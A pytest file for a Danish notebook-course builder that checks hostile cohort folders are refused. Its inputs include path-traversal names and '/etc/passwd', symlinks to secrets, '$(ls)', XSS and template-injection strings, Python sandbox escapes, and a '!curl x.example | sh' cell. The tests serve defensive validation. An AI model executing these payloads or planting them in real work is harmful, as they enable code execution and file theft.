"""A cohort folder that someone made to break out of it: refused, and never with a stack trace."""

import json
import os
from pathlib import Path

import pytest

from fællesledelse.cohort.build import build
from fællesledelse.errors import CohortError

from .conftest import Folder, code, markdown

SECRET = "root-password"


@pytest.fixture
def outside(folder: Folder) -> Path:
    """A page that lies outside the cohort folder."""
    folder.page("hemmelig", markdown(SECRET))
    return (folder.path / "notebooks/hemmelig.ipynb").rename(folder.path.parent / "hemmelig.ipynb")


@pytest.mark.parametrize(
    "name",
    [
        "../../hemmelig",
        "../hold/notebooks/velkomst",
        "/etc/passwd",
        "C:\\hemmelig",
        "..",
        ".",
        "velkomst/../velkomst",
        "velkomst.ipynb",
        "Velkomst",
        "forårs-trin",
        "con",
        "nul",
        "com1",
        "lpt9",
        "velkomst ",
        "-x",
        "x-",
        "x" * 41,
        "a\\0b",
        "~root",
        "$(ls)",
        "<script>",
    ],
)
@pytest.mark.usefixtures("outside")
def test_a_name_that_breaks_out_is_refused(folder: Folder, name: str) -> None:
    folder.change("trin: velkomst", f"trin: {json.dumps(name)}")
    found = "\n".join(folder.findings()) if name != "velkomst " else "hold.yaml, linje 23: må kun have"
    assert "hold.yaml, linje 23" in found
    assert "må kun have" in found
    assert SECRET not in found


@pytest.mark.parametrize("name", ["../naboens-hold", "con", "a/b", "Ærø", ".."])
def test_the_cohorts_own_name_cannot_break_out(folder: Folder, name: str) -> None:
    folder.change("hold: lille-hold", f"hold: {name}")
    assert "må kun have" in folder.finding()


def test_a_notebook_that_is_a_link_to_elsewhere_is_refused(folder: Folder, outside: Path) -> None:
    page = folder.path / "notebooks/velkomst.ipynb"
    page.unlink()
    page.symlink_to(outside)
    assert "notebooks/velkomst.ipynb: Notebooken er en genvej til et andet sted" in folder.finding()


def test_a_folder_of_notebooks_that_is_a_link_to_elsewhere_is_refused(folder: Folder) -> None:
    elsewhere = (folder.path / "notebooks").rename(folder.path.parent / "elsewhere")
    (folder.path / "notebooks").symlink_to(elsewhere)
    assert all("er en genvej til et andet sted" in one for one in folder.findings())
    assert folder.findings()


@pytest.mark.parametrize("name", ["hold.yaml", "deltagere.csv"])
def test_a_file_that_is_a_link_to_elsewhere_is_refused_unread(folder: Folder, name: str) -> None:
    secret = folder.path.parent / "shadow"
    secret.write_text(f"{SECRET}: x\n", encoding="utf-8")
    (folder.path / name).unlink()
    (folder.path / name).symlink_to(secret)
    found = "\n".join(folder.findings())
    assert f"{name}: Filen er en genvej til et andet sted" in found
    assert SECRET not in found


def test_a_built_folder_that_is_a_link_leaves_what_it_points_at_alone(folder: Folder) -> None:
    elsewhere = folder.path.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "mine.txt").write_text("kept", encoding="utf-8")
    (folder.path / "bygget").symlink_to(elsewhere)
    build(folder.path)
    assert [path.name for path in elsewhere.iterdir()] == ["mine.txt"]
    assert not (folder.path / "bygget").is_symlink()


@pytest.mark.parametrize("name", ["hold.yaml", "deltagere.csv", "notebooks/velkomst.ipynb"])
def test_a_folder_where_a_file_should_be_is_told(folder: Folder, name: str) -> None:
    (folder.path / name).unlink()
    (folder.path / name).mkdir()
    assert folder.findings()


def test_a_file_that_is_open_in_excel_says_to_close_it(folder: Folder, monkeypatch: pytest.MonkeyPatch) -> None:
    read = Path.read_bytes

    def locked(path: Path) -> bytes:
        if path.suffix in (".csv", ".ipynb"):
            raise PermissionError(13, "in use")
        return read(path)

    monkeypatch.setattr(Path, "read_bytes", locked)
    assert len([one for one in folder.findings() if "luk den der, og prøv igen" in one]) == 4


def test_a_missing_notebook_is_told_at_its_step_with_the_nearest(folder: Folder) -> None:
    folder.change("trin: workshop-1", "trin: workshop-11")
    assert folder.finding().startswith("hold.yaml, linje 30, kolonne 11: Trinnet 'workshop-11' har ingen side")
    assert "Mente du 'workshop-1'?" in folder.finding()


def test_a_folder_without_notebooks_tells_every_step(folder: Folder) -> None:
    for path in (folder.path / "notebooks").iterdir():
        path.unlink()
    (folder.path / "notebooks").rmdir()
    assert len(folder.findings()) == 3


def test_a_folder_that_is_not_there_says_how_to_make_one(tmp_path: Path) -> None:
    with pytest.raises(CohortError, match="hold ny MAPPE"):
        build(tmp_path / "nowhere")


def test_everything_hostile_at_once_ends_in_findings_and_nothing_built(folder: Folder) -> None:
    folder.page(
        "velkomst",
        markdown("<script>alert(1)</script>"),
        markdown("[x](javascript:alert(1)) ![x](data:x) {{ __class__ }}"),
        code("!curl x.example | sh"),
        code("page.text(__import__('os').system('id'))"),
        code("page.__init__.__globals__['os']"),
    )
    found = folder.findings()
    assert len(found) >= 6
    assert all(one.startswith("notebooks/velkomst.ipynb, celle ") for one in found)
    with pytest.raises(CohortError):
        build(folder.path)
    assert sorted(os.listdir(folder.path)) == ["deltagere.csv", "hold.yaml", "notebooks"]
